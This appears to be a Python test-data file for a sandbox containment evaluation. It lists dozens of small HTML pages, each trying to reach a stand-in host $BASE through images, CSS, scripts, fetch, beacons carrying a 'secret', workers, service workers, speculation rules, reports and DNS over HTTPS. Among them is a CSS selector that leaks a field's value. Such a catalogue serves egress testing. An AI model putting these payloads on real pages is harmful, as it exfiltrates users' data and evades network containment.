"""Hostile pages that load: what needs no click, from images to workers and reports."""

from harness.evals.containment.templates import Row, script

_JS = "text/javascript"


def _link(rel: str, rest: str = "") -> str:
    return f'<link rel="{rel}" {rest} href="$BASE/l.js">'


def _style(rule: str) -> str:
    return f"<style>{rule}</style><p id=p class=p>text<ul><li>one</ul><input id=i value=secret>"


def _rules(kind: str, url: str) -> str:
    return f'<script type=speculationrules>{{"{kind}":[{{"source":"list","urls":["{url}"]}}]}}</script>'


ROWS: tuple[Row, ...] = (
    Row("img", "R01", "an image", '<img src="$BASE/i.png">'),
    Row("new image", "R01", "an image made by script", script("new Image().src='$BASE/i.png'")),
    Row("srcset", "R01", "an image by srcset", '<img srcset="$BASE/i.png 1x">'),
    Row("picture", "R01", "a picture's source", '<picture><source srcset="$BASE/i.png"><img></picture>'),
    Row("img redirect", "R14", "an image that is redirected", '<img src="/redirect?to=$BASE/i.png">'),
    Row("body background", "R04", "a background attribute", '<table background="$BASE/i.png"><td>x</table>'),
    Row("input image", "R43", "an input of type image", '<input type=image src="$BASE/i.png">'),
    Row("poster", "R09", "a video's poster", '<video poster="$BASE/i.png"></video>'),
    Row("css import", "R03", "an imported style sheet", _style("@import '$BASE/s.css';")),
    Row("stylesheet", "R03", "a linked style sheet", '<link rel=stylesheet href="$BASE/s.css">'),
    Row("css background", "R04", "a background image", _style("p{background:url('$BASE/i.png')}")),
    Row("css border", "R04", "a border image", _style("p{border:9px solid;border-image:url('$BASE/i.png') 3}")),
    Row("css list", "R04", "a list image", _style("li{list-style-image:url('$BASE/i.png')}")),
    Row("css content", "R04", "an image as content", _style("p::before{content:url('$BASE/i.png')}")),
    Row("css mask", "R04", "a mask image", _style("p{mask-image:url('$BASE/i.png')}")),
    Row("css filter", "R04", "a filter of another document", _style("p{filter:url('$BASE/i.svg#f')}")),
    Row("css attribute", "R05", "a style that tells what is in a field",
        _style("input[value^=s]{background:url('$BASE/i.png')}")),
    Row("css font", "R06", "a font", _style("@font-face{font-family:f;src:url('$BASE/f.bin')}p{font-family:f}")),
    Row("script", "R07", "a script", '<script src="$BASE/s.js"></script>'),
    Row("module", "R07", "a module", '<script type=module src="$BASE/s.js"></script>'),
    Row("dynamic import", "R08", "a dynamic import", script("import('$BASE/s.js')")),
    Row("import map", "R55", "an import map that moves a module",
        '<script type=importmap>{"imports":{"m":"$BASE/s.js"}}</script><script type=module>import "m"</script>'),
    Row("video", "R09", "a video", '<video autoplay muted src="$BASE/v.bin"></video>'),
    Row("audio", "R09", "a sound", '<audio autoplay muted src="$BASE/v.bin"></audio>'),
    Row("track", "R12", "a track of captions",
        '<video crossorigin=anonymous src="$FILES/v"><track default kind=captions src="$BASE/t.vtt"></video>'
        + script("document.querySelector('track').track.mode='showing'")),
    Row("svg image", "R01", "an image inside an SVG", '<svg><image href="$BASE/i.png" width=9 height=9 /></svg>'),
    Row("xslt", "R51", "an XSL style sheet", '<iframe src="$FILES/x.xml"></iframe>',
        files=(("x.xml", "text/xml", '<?xml-stylesheet type="text/xsl" href="$BASE/s.xsl"?><a/>'),),
        uncounted="an XSL style sheet of another origin is never loaded"),
    Row("fetch", "R13", "a fetch", script("fetch('$BASE/f',{mode:'no-cors'})")),
    Row("fetch cors", "R13", "a fetch with CORS", script("fetch('$BASE/f')")),
    Row("fetch credentials", "R13", "a fetch with credentials",
        script("fetch('$BASE/f',{mode:'no-cors',credentials:'include'})")),
    Row("fetch redirect", "R14", "a fetch that is redirected",
        script("fetch('/redirect?to=$BASE/f',{mode:'no-cors'})")),
    Row("preflight", "R15", "a PUT that needs a preflight",
        script("fetch('$BASE/f',{method:'PUT',headers:{'x-custom':'1'},body:'s'})")),
    Row("xhr", "R16", "an XMLHttpRequest",
        script("let x=new XMLHttpRequest;x.open('GET','$BASE/f');x.send()")),
    Row("xhr post", "R16", "an XMLHttpRequest by POST",
        script("let x=new XMLHttpRequest;x.open('POST','$BASE/f');x.send('secret')")),
    Row("beacon", "R17", "a beacon", script("navigator.sendBeacon('$BASE/b','secret')")),
    Row("beacon on leaving", "R18", "a beacon when the page is left",
        script("addEventListener('pagehide',()=>navigator.sendBeacon('$BASE/b','secret'))"), leave=True),
    Row("keepalive on leaving", "R19", "a keepalive fetch when the page is left",
        script("addEventListener('pagehide',()=>fetch('$BASE/b',{keepalive:true,mode:'no-cors'}))"), leave=True),
    Row("fetch later", "R20", "fetchLater", script("fetchLater('$BASE/b',{activateAfter:0})"), secure=True,
        leave=True),
    Row("event source", "R21", "an event source", script("new EventSource('$BASE/e.stream')")),
    Row("prefetch", "R22", "a prefetch", _link("prefetch")),
    Row("preload", "R23", "a preload", _link("preload", "as=script")),
    Row("preload header", "R24", "a preload header", "x",
        headers=(("link", "<$BASE/l.js>; rel=preload; as=script"),)),
    Row("module preload", "R25", "a module preload", _link("modulepreload")),
    Row("speculative prefetch", "R27", "a speculation rule that prefetches", _rules("prefetch", "$BASE/n"),
        secure=True),
    Row("speculative prerender", "R28", "a speculation rule that prerenders", _rules("prerender", "$BASE/n"),
        secure=True),
    Row("speculative redirect", "R29", "a speculative prefetch that is redirected",
        _rules("prefetch", "/redirect?to=$BASE/n"), secure=True),
    Row("ping", "R32", "a ping of a link", '<a id=go ping="$BASE/p" href="#x">go</a>', click=True),
    Row("report-uri", "R33", "a CSP report", '<img src="https://x.invalid/">',
        headers=(("content-security-policy", "img-src 'none'; report-uri $BASE/r"),)),
    Row("report-to", "R34", "a report to a reporting endpoint", '<img src="https://x.invalid/">', secure=True,
        leave=True, headers=(("reporting-endpoints", 'r="$BASE/r"'),
                             ("content-security-policy", "img-src 'none'; report-to r"))),
    Row("network error logging", "R35", "a network error report", "x", secure=True,
        headers=(("report-to", '{"group":"n","max_age":99,"endpoints":[{"url":"$BASE/r"}]}'),
                 ("nel", '{"report_to":"n","max_age":99,"success_fraction":1}'))),
    Row("favicon", "R36", "an icon of another host", '<link rel=icon href="$BASE/i.png">'),
    Row("manifest", "R37", "a web manifest", '<link rel=manifest href="$BASE/m.json">'),
    Row("worker fetch", "R38", "a fetch from a worker", script("new Worker('$FILES/w.js')"),
        files=(("w.js", _JS, "fetch('$BASE/f',{mode:'no-cors'})"),)),
    Row("worker import", "R39", "importScripts in a worker", script("new Worker('$FILES/w.js')"),
        files=(("w.js", _JS, "importScripts('$BASE/s.js')"),)),
    Row("blob worker", "R50", "a fetch from a worker made of a blob",
        script("new Worker(URL.createObjectURL(new Blob([\"fetch('$BASE/f',{mode:'no-cors'})\"])))")),
    Row("nested worker", "R50", "a fetch from a worker's worker", script("new Worker('$FILES/w.js')"),
        files=(("w.js", _JS, "new Worker('$FILES/v.js')"), ("v.js", _JS, "fetch('$BASE/f',{mode:'no-cors'})"))),
    Row("shared worker", "R40", "a fetch from a shared worker", script("new SharedWorker('$FILES/w.js')"),
        files=(("w.js", _JS, "fetch('$BASE/f',{mode:'no-cors'})"),)),
    Row("service worker", "R41", "a fetch from a service worker", secure=True,
        html=script("navigator.serviceWorker.register('$FILES/w.js')"),
        files=(("w.js", _JS, "oninstall=e=>e.waitUntil(fetch('$BASE/f',{mode:'no-cors'}))"),)),
    Row("intercepting worker", "R42", "a service worker that answers by another host", secure=True,
        html=script("navigator.serviceWorker.register('$FILES/w.js').then(async()=>{await navigator.serviceWorker"
                    ".ready;let f=document.createElement('iframe');f.src='$FILES/page';document.body.append(f)})"),
        files=(("w.js", _JS, "oninstall=()=>skipWaiting();onactivate=e=>e.waitUntil(clients.claim());"
                             "onfetch=e=>e.respondWith(fetch('$BASE/f',{mode:'no-cors'}))"),
               ("page", "text/html", "x"))),
    Row("audio worklet", "R50", "a module of an audio worklet", secure=True,
        html=script("new OfflineAudioContext(1,9,8000).audioWorklet.addModule('$BASE/s.js')")),
    Row("wasm", "R13", "a streaming WebAssembly module",
        script("WebAssembly.compileStreaming(fetch('$BASE/w.bin',{mode:'no-cors'}))")),
    Row("attribution", "R44", "an attribution source", '<img attributionsrc="$BASE/a">', secure=True),
    Row("dictionary", "R45", "a compression dictionary", '<link rel=compression-dictionary href="$BASE/d.bin">',
        secure=True),
    Row("payment", "R46", "a payment method's manifest", secure=True, click=True,
        html="<button id=go>go</button>" + script(
            "go.onclick=()=>new PaymentRequest([{supportedMethods:'$BASE/pay'}],{total:{label:'x',amount:"
            "{currency:'EUR',value:'1'}}}).canMakePayment()")),
    Row("fedcm", "R47", "a federated credential's configuration", secure=True,
        html=script("navigator.credentials.get({identity:{providers:[{configURL:'$BASE/c.json',clientId:'1'}]}})")),
    Row("blob fetch", "R49", "a blob page that fetches",
        script("location=URL.createObjectURL(new Blob(['<script>new Image().src=\"$BASE/i.png\"</scr'+'ipt>'],"
               "{type:'text/html'}))")),
    Row("sandboxed fetch", "R48", "a fetch from a sandboxed frame, raced", repeat=20,
        html="<iframe sandbox=allow-scripts srcdoc=\"<script>fetch('$BASE/f',{mode:'no-cors'})</script>\"></iframe>"),
    Row("css attribute import", "R05", "a style sheet set by script",
        script("let s=new CSSStyleSheet;let l=document.createElement('style');l.textContent="
               "'p{background:url($BASE/i.png)}';document.head.append(l);document.body.append("
               "Object.assign(document.createElement('p'),{textContent:'x'}))")),
    Row("dns over https", "D09", "DNS over HTTPS from a page",
        script("fetch('$BASE/dns-query?dns=AAABAAABAAAAAAAAA3d3dwA',{mode:'no-cors'})")),
)  # fmt: skip
"""One row a page: each is played over http and over https, where it works over both."""
